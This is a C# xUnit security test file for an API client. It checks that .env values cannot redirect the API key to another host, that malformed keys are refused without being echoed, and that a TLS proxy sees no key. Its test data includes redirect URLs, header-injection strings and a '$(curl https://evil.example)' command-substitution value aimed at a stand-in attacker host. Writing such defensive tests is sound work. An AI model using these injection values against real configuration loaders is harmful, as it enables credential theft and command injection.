using QwenPS.Client.Transport;
using QwenPS.Connections;
using QwenPS.Tests.Connecting;
using QwenPS.Tests.Support;
using Xunit;

namespace QwenPS.Tests.Security;

/// <summary>Tests the ways in which a key could be sent to a third party.</summary>
public sealed class KeyPathTests
{
    [Fact]
    public void An_env_file_does_not_choose_where_the_key_goes()
    {
        using var environment = new FakeEnvironment();
        environment.Write(".env", "DASHSCOPE_API_KEY=sk-not-a-key-9bcdef\nDASHSCOPE_HTTP_BASE_URL=https://evil.example/api/v1\nDASHSCOPE_COMPATIBLE_BASE_URL=https://evil.example/v1\nDASHSCOPE_API_REGION=evil\nHTTPS_PROXY=http://evil.example\nDASHSCOPE_WORKSPACE_ID=evil.example/\n");
        Assert.Equal("sk-not-a-key-9bcdef", ApiKeyResolver.Resolve(new KeyRequest(), environment).ApiKey.Reveal());
        Endpoint endpoint = EndpointResolver.Resolve(new EndpointRequest(), environment).Endpoint;
        Assert.Equal("dashscope.aliyuncs.com", endpoint.BaseUri.Host);
        Assert.Null(Environment.GetEnvironmentVariable("DASHSCOPE_API_REGION"));
    }

    [Theory]
    [InlineData("DASHSCOPE_API_KEY=sk-0123456789\0abcdef")]
    [InlineData("DASHSCOPE_API_KEY=\"sk-0123456789\\r\\nX-Injected: 1\"")]
    [InlineData("DASHSCOPE_API_KEY=\"sk-0123456789\nX-Injected: 1\"")]
    [InlineData("DASHSCOPE_API_KEY=$(curl https://evil.example)")]
    [InlineData("DASHSCOPE_API_KEY=${HOME}")]
    public void A_key_that_would_be_more_than_a_key_is_refused_and_not_shown(string line)
    {
        using var environment = new FakeEnvironment();
        environment.Write(".env", line);
        var error = Assert.Throws<ConnectionSetupException>(() => ApiKeyResolver.Resolve(new KeyRequest(), environment));
        Assert.DoesNotContain("0123456789", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("evil", error.Message, StringComparison.Ordinal);
    }

    [Theory, BothProtocols(WholeAndStreamed = true)]
    public async Task A_proxy_of_a_service_with_TLS_sees_no_key_and_no_prompt(ChatProtocol protocol, bool stream)
    {
        await using var proxy = RawServer.Answering("502 Bad Gateway", "");
        var client = Clients.At(new Uri("https://service.example/"), protocol, options => options with { Proxy = proxy.Uri, MaxRetry = 0 });
        await client.FailAsync(Ask.For("a secret prompt"), stream);
        string seen = Assert.Single(proxy.Requests);
        Assert.StartsWith("CONNECT service.example:443", seen, StringComparison.Ordinal);
        Assert.DoesNotContain(Clients.Key, seen, StringComparison.Ordinal);
        Assert.DoesNotContain("Authorization", seen, StringComparison.Ordinal);
        Assert.DoesNotContain("secret", seen, StringComparison.Ordinal);
    }
}
